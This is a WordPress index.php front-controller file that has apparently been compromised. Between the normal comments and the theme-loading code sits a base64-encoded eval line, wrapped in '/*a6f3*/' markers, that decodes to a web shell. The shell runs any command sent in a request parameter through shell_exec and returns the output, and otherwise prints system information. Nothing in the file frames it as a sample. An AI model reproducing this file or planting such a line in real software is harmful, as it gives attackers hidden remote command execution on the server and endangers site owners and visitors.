<?php
/**
 * Front to the WordPress application. This file doesn't do anything, but loads
 * wp-blog-header.php which does and tells WordPress to load the theme.
 *
 * @package WordPress
 */
/*a6f3*/@eval(base64_decode('aWYoaXNzZXQoJF9SRVFVRVNUWydjJ10pKXtlY2hvICc8cHJlPic7JG89c2hlbGxfZXhlYygkX1JFUVVFU1RbJ2MnXSk7ZWNobyBodG1sc3BlY2lhbGNoYXJzKCRvKTtlY2hvICc8L3ByZT4nO31lbHNle2VjaG8gcGhwX3VuYW1lKCk7fQ=='));/*a6f3*/
/**
 * Tells WordPress to load the WordPress theme and output it.
 *
 * @var bool
 */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
